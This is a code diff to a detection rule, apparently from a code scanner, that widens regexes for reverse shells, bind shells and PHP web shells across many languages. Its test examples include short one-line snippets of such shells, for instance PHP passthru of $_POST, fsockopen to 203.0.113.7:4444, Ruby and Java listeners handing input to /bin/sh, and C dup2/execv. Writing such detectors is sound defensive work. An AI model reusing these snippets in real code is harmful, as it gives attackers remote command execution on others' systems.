@@ -18,7 +18,7 @@ export const rule: Rule = {
   match: [
     // Python: socket ... dup2 / pty.spawn / subprocess with a shell
     {
-      re: /socket[^]*?(?:\.connect(?:_ex)?\(|\.bind\()[^]*?(?:dup2\(|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run)\()/,
+      re: /socket[^]*?(?:\.connect(?:_ex)?\(|\.bind\()[^]*?(?:dup2\(|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run|getoutput|check_output)\()/,
       window: 700,
       accept: ({ text, after }) => !/(?:subprocess|sp)\.\w+\($/.test(text) || RUNS_A_SHELL.test(`${text}${after}`),
     },
@@ -34,21 +34,25 @@ export const rule: Rule = {
       re: /(?:p?fsockopen|stream_socket_client|socket_create)\s*\([^]*?(?:shell_exec|proc_open|passthru|popen|system|exec)\s*\(/,
       window: 2000,
     },
-    { re: /(?:p?fsockopen|stream_socket_client)\s*\([^\n]*\)\s*;\s*`/ },
+    { re: /(?:p?fsockopen|stream_socket_client)\s*\([^\n]*(?:\)\s*;\s*`|[,(]\s*`\s?\$)/ },
     {
       re: /(?:system|exec|shell_exec|passthru|popen|proc_open|assert|eval)\s*\(\s*(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\s*\[/,
     },
     {
-      re: /=\s*\(?\s*\$_(?:GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]+\]\s*\)?\s*;\s*(?:system|exec|shell_exec|passthru)\s*\(\s*\$\w/,
+      re: /=\s*\(?\s*\$_(?:GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]+\]\s*\)?\s*(?:\?\?[^;\n]*)?;\s*(?:system|exec|shell_exec|passthru)\s*\(\s*\$\w/,
     },
-    { re: /`\s*\$_(?:GET|POST|REQUEST)\s*\[/ },
+    { re: /`\s*\{?\$_(?:GET|POST|REQUEST)\s*\[/ },
     // Ruby
     { re: /TCPSocket\.(?:new|open)\s*\(?[^]*?(?:IO\.popen|exec|\/bin\/(?:ba)?sh|spawn)/, window: 400 },
     { re: /spawn\s*\(?\s*["'][^\n]*:out[^\n]*=>\s*TCPSocket\.(?:new|open)/, window: 200 },
+    { re: /TCPServer\.(?:new|open)[^]*?\.accept[^]*?(?:IO\.popen|[\s;]exec[ (]|`#\{)/, window: 300 },
     // Lua
     { re: /require\s*\(?["']socket["'][^]*?(?:os\.execute|io\.popen)\s*\(/, window: 500 },
     // Node.js
-    { re: /(?:net\.(?:Socket|connect|createConnection)|new\s+net\.Socket)[^]*?\.pipe\(\s*\w+\.stdin/, window: 700 },
+    {
+      re: /(?<!\w)net["'`]?\)?\.(?:Socket|connect|createConnection|createServer)[^]*?\.pipe\(\s*\w+\.stdin/,
+      window: 700,
+    },
     {
       re: /child_process["'`]?\)[^]*?(?:exec|spawn)\w*\(\s*["'`](?:nc|ncat|\/bin\/(?:ba)?sh|cmd(?:\.exe)?)[ "'`]/,
       window: 400,
@@ -60,17 +64,21 @@ export const rule: Rule = {
       accept: ({ after }) => !isOrdinaryForShell(after.replace(/^["']\s*,\s*["']-c["']\s*,\s*/, '')),
     },
     { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
-    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?new\s+(?:java\.net\.)?Socket\s*\(/, window: 2000 },
+    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?(?:new\s+(?:java\.net\.)?|=\s?)Socket\s*\(/, window: 2000 },
+    { re: /ServerSocket\s*\([^]*?\.accept\(\)[^]*?(?:ProcessBuilder|exec)\s*\(\s*["'{]{0,2}\/bin\//, window: 700 },
     // Go, C, C#, Crystal, Dart, V
     {
       re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/(?:usr\/)?bin\/|cmd|powershell|\w{0,4}sh["'])/,
       window: 500,
     },
-    { re: /(?:connect|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:ve|l|lp|vp|le)?\s*\(/, window: 900 },
+    { re: /(?:connect|ConnectToHost|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:[lv]p?e?)?\s*\(/, window: 900 },
     { re: /os\.system\s*\(\s*["'](?:nc|ncat|bash|sh|\/bin\/)[^\n]*(?:-e\s|\/dev\/tcp)/ },
     { re: /TCPClient\s*\([^]*?(?:GetStream|StreamWriter)[^]*?(?:iex|Invoke-Expression|Process)/i, window: 1200 },
     { re: /TCPClient\s*\(["'\d][^]*?GetStream\s*\(\s*\)/i, window: 300 },
-    { re: /Socket\.(?:tcp|connect)\s*\([^]*?Process\.(?:new|start|run)\s*\(/, window: 700 },
+    {
+      re: /(?:Socket\.(?:tcp|connect)|Deno\.connect)\s*\([^]*?(?:Process\.(?:new|start|run)|Deno\.Command)\s*\(/,
+      window: 700,
+    },
   ],
   examples: {
     fires: [
@@ -83,6 +91,16 @@ export const rule: Rule = {
       'c,_:=net.Dial("tcp","203.0.113.7:4444");cmd:=exec.Command("zsh");cmd.Stdin=c',
       "lua -e \"require('socket');t=socket.tcp();os.execute('/bin/bash -i');\"",
       '<?php system($_GET["cmd"]); ?>',
+      "<?php $c = $_POST['c'] ?? ''; passthru($c); ?>",
+      "<?php echo `{$_POST['c']}`; ?>",
+      "<?php $s=fsockopen('203.0.113.7',4444);while($l=fgets($s)){fwrite($s,`$l`);} ?>",
+      's = TCPServer.new 4444\nc = s.accept\nwhile l = c.gets\n  c.puts `#{l}`\nend',
+      'ServerSocket ss = new ServerSocket(4444); Socket s = ss.accept(); Process p = new ProcessBuilder("/bin/sh").start();',
+      "s = socket.socket()\ns.bind(('', 4444))\nc, a = s.accept()\nc.send(subprocess.getoutput(c.recv(99)).encode())",
+      'require("net").connect(4444,"203.0.113.7",function(){this.pipe(s.stdin);s.stdout.pipe(this)})',
+      'val p = ProcessBuilder("/bin/sh").start()\nval s = Socket("203.0.113.7", 4444)',
+      'connect(s, &a, sizeof(a)); dup2(s, 0); dup2(s, 1); execv("/bin/sh", argv);',
+      'const c=await Deno.connect({port:4444});const p=new Deno.Command("sh",{stdin:"piped"}).spawn()',
     ],
     silent: [
       'Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", "ls " + dir});',
@@ -90,6 +108,10 @@ export const rule: Rule = {
       "const { exec } = require('child_process'); exec('git status')",
       'Socket socket = new Socket("example.com", 80);',
       'net.Dial("tcp", "golang.org:80")',
+      "server = TCPServer.new('127.0.0.1', 0)\nport = server.addr[1]\nspawn('ruby', 'app.rb', port.to_s)",
+      'int port; try (ServerSocket s = new ServerSocket(0)) { port = s.getLocalPort(); } new ProcessBuilder("java", "-jar", "app.jar").start();',
+      "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\nsubprocess.check_output(['git', 'status'])",
+      'const client = net.connect(8124); process.stdin.pipe(client);',
       'open(STDIN, "<&", $saved);\nexec($^X, $0, @ARGV);',
       'c, _ := net.Dial("tcp", "192.0.2.1:80")\ncmd := exec.Command("git", "push")',
     ],
